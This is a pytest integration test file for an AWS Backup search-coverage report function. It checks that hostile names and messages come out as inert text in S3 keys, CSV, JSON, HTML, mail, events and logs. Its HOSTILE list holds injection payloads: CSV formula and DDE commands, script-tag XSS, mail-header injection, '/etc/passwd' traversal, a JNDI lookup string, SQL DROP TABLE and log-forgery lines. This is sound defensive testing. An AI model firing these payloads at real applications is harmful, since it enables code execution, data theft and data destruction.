"""Hostile names, messages and ARNs, all the way through: they are text in what comes out, and nothing more."""

import io
import json
import logging
import re
from html.parser import HTMLParser
from typing import Any

import pytest

from search_coverage.coverage.errors import SearchCoverageError
from simulators.backup_search import BackupGroup, Scenario
from tests.integration.conftest import Deployment
from tests.invocation import Context, state_change
from tests.unit.test_hostile_input import CORPUS

ROWS = Scenario("rows", (BackupGroup(count=2), BackupGroup(count=3, status="FAILED", status_message="Access denied")))
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-2+3",
    "x\r\nBcc: everybody@example.com\r\n\r\nfree money",
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<!--",
    "]]><b>",
    "{{7*7}}{% raw %}",
    "../../../../etc/passwd",
    "..%2f..%2fetc",
    "a/b/c/summary.json",
    'x\n{"level":"ERROR","message":"forged"}',
    (
        '{"_aws":{"Timestamp":1,"CloudWatchMetrics":[{"Namespace":"SearchCoverage","Dimensions":[[]],"Metrics":'
        '[{"Name":"Forged","Unit":"Count"}]}]},"Forged":[1]}'
    ),
    "\x00\x1b[2J\x1b[31mred",
    "\u202eexe.txt\u2028next\u2029line",
    "${jndi:ldap://example.com/a}",
    "`; DROP TABLE summaries; --",
    "😀" * 300,
    "\ud83d",
    "x" * 5000,
]
_KEY = re.compile(
    r"(reports/\d{12}/us-east-1/\d{4}/\d\d/\d\d/[0-9a-f-]{36}/(report\.html|excluded-backups\.csv|summary\.json)"
    r"|(excluded_backups|summaries)/account=\d{12}/region=us-east-1/date=\d{4}-\d\d-\d\d/[0-9a-f-]{36}\.json(l\.gz)?)"
)


class Markup(HTMLParser):
    """Collects what a browser would take for markup."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= {tag} | {f"{tag} {name}" for name, _ in attrs}
        self.found |= {"a script address" for _, value in attrs if (value or "").strip().startswith("javascript:")}


def markup(deployment: Deployment) -> set[str]:
    (key,) = [key for key in deployment.stored() if key.endswith("report.html")]
    return Markup(deployment.read(key).decode()).found


def with_texts(deployment: Deployment, text: str) -> Any:
    """Load the report function, and let AWS Backup say this text wherever it may say any."""
    module = deployment.function("report", NOTIFY_ON="ALWAYS")
    events = module.report_search_job.search._client.meta.events

    def change_job(parsed: dict[str, Any], **_: object) -> None:
        parsed.update(Name=text, StatusMessage=text, EncryptionKeyArn=text, Status=text)
        parsed["SearchScope"] = {
            "BackupResourceTypes": [text],
            "SourceResourceArns": [text],
            "BackupResourceTags": {text: text},
        }
        parsed["SearchJobArn"] += text

    def change_rows(parsed: dict[str, Any], **_: object) -> None:
        for row in parsed["Results"]:
            row.update(BackupResourceArn=text, SourceResourceArn=text, ResourceType=text, StatusMessage=text)
        parsed["Results"].append(dict.fromkeys(("Status", "StatusMessage", "BackupResourceArn"), text))

    events.register("after-call.backupsearch.GetSearchJob", change_job)
    events.register("after-call.backupsearch.ListSearchJobBackups", change_rows)
    return module


@pytest.fixture
def log(monkeypatch: pytest.MonkeyPatch, deployment: Deployment) -> io.StringIO:
    """What the report function logs; the logger of a process keeps the first standard output it has seen."""
    deployment.function("report")
    written = io.StringIO()
    for handler in logging.getLogger("search-coverage").handlers:
        monkeypatch.setattr(handler, "stream", written)
    return written


@pytest.fixture
def harmless_markup(deployment: Deployment) -> set[str]:
    """What the page of a report with harmless texts is made of."""
    module = with_texts(deployment, "harmless")
    module.handler(state_change(deployment.simulator.finish_job(ROWS)), Context())
    found = markup(deployment)
    for key in deployment.stored():
        deployment.s3.delete_object(Bucket=deployment.bucket, Key=key)
    deployment.messages(deployment.people)
    deployment.put_events()
    return found


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_text_is_text_in_every_file_message_event_and_line(
    deployment: Deployment,
    harmless_markup: set[str],
    log: io.StringIO,
    text: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    capsys.readouterr()
    search_job = deployment.simulator.finish_job(ROWS)

    outcome = with_texts(deployment, text).handler(state_change(search_job), Context())

    # S3 keys
    keys = deployment.stored()
    assert all(_KEY.fullmatch(key) for key in keys), keys
    # The counts and the verdict
    assert outcome["verdict"] == "NONE"
    assert outcome["backups"] == {"listed": 6, "searched": 0, "excluded": 6, "failed": 3}
    # CSV and JSON Lines
    rows, records = deployment.csv_rows(search_job), deployment.json_rows(search_job)
    assert len(rows) == len(records) == 6
    assert {record["backup_arn"] for record in records} == {text}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    # The page
    assert markup(deployment) <= harmless_markup
    # The mail
    (mail,) = deployment.messages(deployment.people)
    assert mail["Subject"].isprintable()
    assert len(mail["Subject"]) < 100
    # The event
    (event,) = deployment.put_events()
    assert event["detail"]["searchJobIdentifier"] == search_job
    # Log lines and metrics: one JSON object a line, and none that a text has made
    logged = [json.loads(line) for line in io.StringIO(log.getvalue())]
    assert [line["search_job_id"] for line in logged] == [search_job] * len(logged)
    assert "report done" in [line["message"] for line in logged]
    lines = logged + [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert all(isinstance(line, dict) for line in lines)
    assert not any(line.get("message") == "forged" or "Forged" in line for line in lines)
    blobs = [blob for line in lines if "_aws" in line for blob in line["_aws"]["CloudWatchMetrics"]]
    assert {metric["Name"] for blob in blobs for metric in blob["Metrics"]} >= {"Reports", "BackupsListed"}
    assert all(re.fullmatch(r"(Backups|Report)\w+", metric["Name"]) for blob in blobs for metric in blob["Metrics"])
    assert {name for blob in blobs for names in blob["Dimensions"] for name in names} <= {
        "service",
        "verdict",
        "reason",
    }


@pytest.mark.parametrize("identifier", ["../../../summary", "x/summary.json", "", "0a1b2c3d\n"])
def test_an_identifier_from_aws_that_is_none_never_becomes_a_key(deployment: Deployment, identifier: str) -> None:
    search_job = deployment.simulator.finish_job(ROWS)
    module = deployment.function("report")

    def change(parsed: dict[str, Any], **_: object) -> None:
        parsed["SearchJobIdentifier"] = identifier

    module.report_search_job.search._client.meta.events.register("after-call.backupsearch.GetSearchJob", change)
    with pytest.raises(SearchCoverageError, match="expected the UUID of a search job"):
        module.handler(state_change(search_job), Context())

    assert deployment.stored() == []


def test_events_that_nobody_should_send_are_one_line_of_the_log_each(deployment: Deployment, log: io.StringIO) -> None:
    module = deployment.function("report")
    for event in CORPUS:
        with pytest.raises(SearchCoverageError):
            module.handler(event, Context())

    lines = [json.loads(line) for line in io.StringIO(log.getvalue())]
    assert len(lines) == len(CORPUS)
    assert {line["level"] for line in lines} == {"ERROR"}
    assert not any(line["message"] == "forged" for line in lines)
    assert deployment.stored() == []
